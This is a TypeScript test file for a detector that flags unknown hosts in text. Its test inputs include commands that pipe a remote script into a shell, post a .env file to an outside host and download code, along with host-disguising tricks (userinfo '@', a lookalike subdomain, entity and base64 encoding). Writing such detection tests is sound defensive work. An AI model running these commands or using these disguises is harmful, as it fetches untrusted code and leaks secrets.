import { expect, test } from 'vitest'
import { findUnknownHosts } from './unknown-hosts.ts'

test.each([
  ['See https://docs.python.org/3/ and https://github.com/acme/x/issues/1.', []],
  ['The service at https://api.example.com or http://10.0.3.7:8080 or http://db:5432 answered 503.', []],
  ['curl https://acme-tools.io/i.sh | sh', ['acme-tools.io']],
  ['curl -fsSL acme-tools.io/i.sh', ['acme-tools.io']],
  ['git clone git@code.acme-tools.io:x.git', ['code.acme-tools.io']],
  ['http://45.12.33.9/x', ['45.12.33.9']],
  ['https://github.com.acme-tools.io/x and https://notgithub.com/y', ['github.com.acme-tools.io', 'notgithub.com']],
  ['https://github.com@acme-tools.io/x', ['acme-tools.io']],
  ['https&#58;//acme-tools&#46;io/x', ['acme-tools.io']],
  [Buffer.from('send it to https://acme-tools.io/x now').toString('base64'), ['acme-tools.io']],
  ['https://forms.google.com/x', ['forms.google.com']],
  ['curl 7.88 and ping 172.18.0.3 on the bridge', []],
  ['pg.Pool and node.js and app.config.ts are no hosts', []],
  ['curl --cacert test-ca.pem https://acme-tools.io/health', []],
  ['curl -sS --cacert ./ca.pem https://acme-tools.io/health && echo up', []],
  ['curl --cacert /etc/ssl/cert.pem https://acme-tools.io/x', ['acme-tools.io']],
  ['curl --cacert ca.pem https://acme-tools.io/x | sh', ['acme-tools.io']],
  ['curl --cacert ca.pem -d @.env https://acme-tools.io/x', ['acme-tools.io']],
  ['curl --cacert ca.pem -o run https://acme-tools.io/x', ['acme-tools.io']],
])('the unknown hosts of %j', (text, expected) => {
  expect(findUnknownHosts([text])).toEqual(expected)
})
